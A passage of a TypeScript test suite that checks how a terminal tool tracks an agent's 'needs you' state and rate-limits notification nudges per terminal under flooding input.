    for (let i = 0; i < bytes.length; i += 4096) {
      a.feed(bytes.subarray(i, i + 4096));
      clock.t += 1000 / Math.ceil(bytes.length / 4096);
    }
    assert.equal(a.nudges.length, 1);
    assert.ok(a.changes.length >= 1999, `${a.changes.length} state changes`);
    assert.equal(a.tracker.current.state, 'needsYou');
    assert.equal(a.tracker.current.message, `${RUN_LINK} 999`);
    assert.deepEqual(problems(agentState.nudgeText('c', a.nudges[0]!), 'message'), []);
  });

  it('at most one nudge per NUDGE_INTERVAL_MS per terminal over ten minutes; another terminal has its own', () => {
    const clock = { t: now };
    const gate = new NudgeGate(() => clock.t);
    const a = terminal(clock, gate, 1);
    const b = terminal(clock, gate, 2);
    const minutes = 10;
    for (let s = 0; s < minutes * 60; s++) {
      a.feed(attack(5));
      if (s % 2 === 0) b.feed(attack(1));
      clock.t += 1000;
    }
    const most = (minutes * 60_000) / agentState.NUDGE_INTERVAL_MS + 1;
    assert.ok(a.nudges.length <= most && a.nudges.length >= most - 1, `${a.nudges.length} nudges`);
    assert.ok(b.nudges.length <= most && b.nudges.length >= most - 1, `${b.nudges.length} nudges`);
  });

  it('the same "needs you" is nudged once; a new one after the interval is nudged again', () => {
    const clock = { t: now };
    const gate = new NudgeGate(() => clock.t);
    const status = needs('x');
    assert.equal(gate.asks(1, status), true);
    assert.equal(gate.take(1), true);
    assert.equal(gate.asks(1, status), false);
    assert.equal(gate.asks(1, { ...status, state: 'working' }), false);
    assert.equal(gate.asks(1, { ...status, since: now + 1 }), true);
    assert.equal(gate.take(1), false);
    clock.t += agentState.NUDGE_INTERVAL_MS;
    assert.equal(gate.asks(1, { ...status, since: clock.t }), true);
    assert.equal(gate.take(1), true);
    // An ended session forgets its terminal.
    gate.asks(1, { ...status, state: 'ended' });
    assert.equal(gate.take(1), true);
  });
});
